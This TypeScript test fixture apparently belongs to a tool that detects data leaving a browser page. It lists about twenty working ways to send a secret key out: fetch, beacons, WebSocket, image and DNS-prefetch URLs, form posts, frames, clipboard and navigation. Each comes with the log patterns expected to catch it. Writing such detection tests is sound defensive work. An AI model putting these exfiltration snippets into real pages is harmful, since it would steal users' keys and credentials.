import type { Leak } from './leak'

/** One leak of each kind that sends something, or tries to. */
export const sending: Record<string, Leak> = {
  fetch: {
    leak: (secret, { url }) => void fetch(url, { method: 'POST', body: secret }).catch(() => {}),
    told: [/^call: Window.fetch/, /^browser: log .*\/fetch/, /^console: .*\/fetch/],
  },
  'own-host': {
    leak: (secret, { name }) => {
      document.body.style.background = `url(/${name}?${encodeURIComponent(secret)})`
    },
    told: [/^browser: log .*\/own-host/, /^browser: Image GET .*\/own-host/],
  },
  xhr: {
    leak: (secret, { url }) => {
      const request = new XMLHttpRequest()
      request.open('POST', url)
      request.send(secret)
    },
    told: [/^call: XMLHttpRequest.send/, /^browser: XHR POST .*\/xhr -----BEGIN/],
  },
  beacon: {
    leak: (secret, { url }) => void navigator.sendBeacon(url, secret),
    told: [/^call: Navigator.sendBeacon/, /^browser: log .*\/beacon/],
  },
  websocket: {
    leak: (secret, { url }) => {
      const socket = new WebSocket(url.replace('http:', 'ws:'))
      socket.onopen = () => socket.send(secret)
    },
    told: [/^new: WebSocket/, /^browser: log .*\/websocket/],
  },
  'web-transport': {
    leak: (_, { url }) => void new WebTransport(url.replace('http:', 'https:')).ready.catch(() => {}),
    told: [/^new: WebTransport/, /^browser: .*\/web-transport/],
  },
  'event-source': {
    leak: (secret, { url }) => void new EventSource(`${url}?${encodeURIComponent(secret)}`),
    told: [/^new: EventSource/, /^browser: EventSource GET .*\/event-source/],
  },
  image: {
    leak: (secret, { url }) => {
      document.createElement('img').src = `${url}?${encodeURIComponent(secret)}`
    },
    told: [/^browser: log .*\/image/, /^browser: Image GET .*\/image/],
  },
  prefetch: {
    leak: (secret, { url }) => {
      const href = `${url}?${encodeURIComponent(secret)}`
      document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href }))
    },
    told: [/^request: GET .*\/prefetch/, /^browser: .*\/prefetch/, /^kept: links .*\/prefetch/],
  },
  'dns-prefetch': {
    leak: (secret, { name }) => {
      const href = `//${secret.slice(60, 80).toLowerCase().replaceAll(/\W/gu, '')}.${name}.test`
      document.head.append(Object.assign(document.createElement('link'), { rel: 'dns-prefetch', href }))
    },
    told: [/^kept: links .*dns-prefetch/],
  },
  webrtc: {
    leak: async (_, { stun }) => {
      const peer = new RTCPeerConnection({ iceServers: [{ urls: stun }] })
      peer.createDataChannel('leak')
      await peer.setLocalDescription(await peer.createOffer())
    },
    told: [/^new: RTCPeerConnection/],
  },
  form: {
    leak: (secret, { url, name }) => {
      const frame = Object.assign(document.createElement('iframe'), { name })
      const form = Object.assign(document.createElement('form'), {
        action: url,
        method: 'post',
        target: name,
      })
      form.append(Object.assign(document.createElement('input'), { name: 'leak', value: secret }))
      document.body.append(frame, form)
      form.submit()
    },
    told: [
      /^call: HTMLFormElement.submit/,
      /^browser: navigation formSubmissionPost .*\/form/,
      /^browser: frame$/,
    ],
  },
  frame: {
    leak: (secret, { url }) => {
      const src = `${url}?${encodeURIComponent(secret)}`
      document.body.append(Object.assign(document.createElement('iframe'), { src }))
    },
    told: [/^browser: navigation initial.*\/frame/, /^kept: links .*\/frame/],
  },
  'link-to-new-tab': {
    leak: (secret, { url }) => {
      const href = `${url}?${encodeURIComponent(secret)}`
      const link = Object.assign(document.createElement('a'), { href, target: '_blank', rel: 'noopener' })
      document.body.append(link)
      link.click()
      link.remove()
    },
    told: [/^browser: window .*\/link-to-new-tab/],
  },
  'message-to-worker': {
    leak: async (secret) => (await navigator.serviceWorker.ready).active?.postMessage(secret),
    told: [/^call: ServiceWorker.postMessage/],
  },
  'broadcast-channel': {
    leak: (secret, { name }) => new BroadcastChannel(name).postMessage(secret),
    told: [/^new: BroadcastChannel/],
  },
  console: {
    leak: (secret, { name }) => console.log(name, secret),
    told: [/^console: console -----BEGIN/, /^browser: console .*-----BEGIN/],
  },
  download: {
    leak: (secret, { name }) => {
      const href = `data:text/plain,${encodeURIComponent(secret)}`
      Object.assign(document.createElement('a'), { href, download: name }).click()
    },
    told: [/^download: download/, /^browser: download data:/],
  },
  clipboard: {
    leak: (secret) => void navigator.clipboard.writeText(secret).catch(() => {}),
    told: [/^call: Clipboard.writeText/],
  },
}

/** One leak that leaves the page, to take the key along. */
export const departing: Record<string, Leak> = {
  location: {
    leak: (secret, { url }) => {
      location.href = `${url}?${encodeURIComponent(secret)}`
    },
    told: [/^browser: navigation .*\/location/],
  },
}
